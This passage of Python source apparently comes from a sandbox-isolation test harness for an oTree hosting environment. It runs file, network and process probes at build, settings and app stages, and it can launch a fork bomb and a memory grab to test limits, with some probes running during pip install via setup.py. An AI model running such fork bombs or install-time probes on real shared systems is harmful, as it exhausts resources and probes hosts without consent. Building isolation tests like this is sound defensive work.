        if expectation(spec, stage, "write") != "skip":
            out.append(_safe(probe_write, stage, spec))
    return out


def run_stage(stage: str, project_dir: str | None = None, *, limits: bool = False, targets: dict | None = None,
              echo: bool = False) -> list[dict]:
    """Every import-time probe of `stage`, once per process; with `limits`, the fork bomb
    and the memory grab too."""
    with _lock:
        if stage in _ran:
            return []
        _ran.add(stage)
    targets = targets if targets is not None else load_targets(project_dir)
    start = len(FINDINGS)
    _safe(identity, stage, targets)
    own = targets.get("own_files") or [] if project_dir else []  # (the build has no project)
    for path in own:
        _safe(probe_read, stage, {"path": os.path.join(project_dir or os.getcwd(), path), "read": "allowed",
                                  "what": "its own project"})
    _safe(file_probes, stage, targets)
    _safe(network_probes, stage, targets)
    _safe(neighbour_processes, stage, targets)
    if stage == "app":
        _safe(own_services, stage)
    if limits:
        if stage == "settings":
            _safe(_wait_for_app)
        _safe(fork_bomb, stage, int(targets.get("forks", 2000)))
        _safe(memory_limit if stage == "build" else allocate, stage, int(targets.get("allocate_mb", 1280)))
    new = FINDINGS[start:]
    if echo:
        for item in new:
            print(MARK + json.dumps(item), flush=True)
    return new


def _wait_for_app(timeout: float = 40) -> dict:
    """The settings reader runs while the new app starts: where both share the instance's
    process budget (the process runtime), a fork bomb now would only make our own app fail
    to start. So it waits (bounded) until the app runs — oTree's timeout worker, started
    last, in our folder — unless it is alone in a container (pid 1 is its own)."""
    try:
        alone = os.stat("/proc/1").st_uid == os.getuid()  # pid 1 is ours: a container of our own
    except OSError:
        alone = False
    if alone:
        return record("settings", "wait", "the app", False, "alone in a container", "info")
    here = os.path.realpath(os.getcwd())
    started = time.monotonic()
    seen = {}
    while time.monotonic() - started < timeout:
        for pid in _pids_matching("timeoutsubprocess"):
            try:
                cwd = os.readlink(f"/proc/{pid}/cwd")
            except OSError as exc:
                seen[pid] = _why(exc)
                continue
            seen[pid] = cwd
            if os.path.realpath(cwd) == here:
                time.sleep(1)
                return record("settings", "wait", "the app", True, f"up after {time.monotonic() - started:.1f} s",
                              "info")
        time.sleep(0.5)
    return record("settings", "wait", "the app", False, f"not seen in {timeout} s from {here}: {seen}", "info")


def violations(findings: list[dict]) -> list[dict]:
    """Escapes that succeeded and controls that failed."""
    return [f for f in findings if (f["expect"] == "blocked" and f["reached"])
            or (f["expect"] == "allowed" and not f["reached"])]


def build_report() -> list[dict]:
    """What setup.py found while pip built this package (installed beside this module)."""
    try:
        with open(os.path.join(HERE, "build_report.json")) as fh:
            return json.load(fh)
    except (OSError, ValueError):
        return []
